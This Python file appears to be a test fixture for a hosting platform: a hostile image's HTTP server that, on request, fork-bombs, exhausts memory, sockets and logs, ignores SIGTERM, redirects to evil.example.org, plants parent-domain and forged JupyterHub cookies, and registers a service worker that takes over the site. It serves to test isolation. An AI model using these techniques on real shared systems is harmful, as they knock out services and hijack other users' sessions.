"""A hostile image's program: it answers, and does harm by the word that its path names."""

import os
import signal
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

CHILDREN = 300  # enough to show it, and not too many for the machine of whoever runs the tests
held: list[socket.socket] = []
eaten: list[bytearray] = []


def write_log(size: str) -> str:
    line = b"x" * 1023 + b"\n"
    for _ in range(int(size) // len(line)):
        os.write(1, line)
    return "written"


def open_sockets(port: str, number: str) -> str:
    for _ in range(int(number)):
        connection = socket.socket()
        try:
            connection.connect(("127.0.0.1", int(port)))
        except OSError as error:
            return f"{len(held)}, then {error}"
        held.append(connection)
    return str(len(held))


def fork() -> str:
    for _ in range(CHILDREN):
        if os.fork() == 0:
            os.setsid()
            while True:  # each leaves its place to a child of its own, over and over
                time.sleep(0.2)
                if os.fork():
                    os._exit(0)
    return str(CHILDREN)


def die() -> str:
    threading.Timer(0.1, os._exit, [7]).start()
    return "dying"


def eat_memory(gigabytes: str) -> str:
    """Takes memory for good, in another thread, so that there is an answer first."""

    def eat() -> None:
        for _ in range(int(gigabytes) * 64):
            eaten.append(bytearray(os.urandom(1)) * 2**24)

    threading.Timer(0.1, eat).start()
    return "eating"


ACTS = {"log": write_log, "sockets": open_sockets, "fork": fork, "die": die, "memory": eat_memory}


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        url = urlsplit(self.path)
        act = ACTS.get(url.path.rpartition("/")[2])
        if url.path.endswith("/elsewhere"):
            self.send_response(302)
            self.send_header("Location", "https://evil.example.org/")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if act:
            body = act(**{name: values[0] for name, values in parse_qs(url.query).items()})
        elif url.path.endswith("/worker.js"):
            body = "self.addEventListener('fetch', e => e.respondWith(new Response('taken over')));"
        else:
            body = PAGE
        parent = self.headers.get("X-Forwarded-Host", "").partition(":")[0].partition(".")[2]
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if url.path.endswith(".js") else "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        for cookie in (
            "whole=1; Path=/",
            f"parent=1; Domain={parent}; Path=/",
            "jupyterhub-user-astronomer=stolen; Path=/",
        ):
            self.send_header("Set-Cookie", cookie)
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_: object) -> None:
        pass


PAGE = """<!doctype html><title>trying</title><script>
navigator.serviceWorker.register("worker.js", {scope: "/"})
  .then(() => { window.got = "registered" }, error => { window.got = error.name })
  .finally(() => { document.title = "tried" });
</script>"""

if __name__ == "__main__":
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    sys.stdout.flush()
    ThreadingHTTPServer((os.environ["CANFAR_IP"], int(os.environ["CANFAR_PORT"])), Handler).serve_forever()
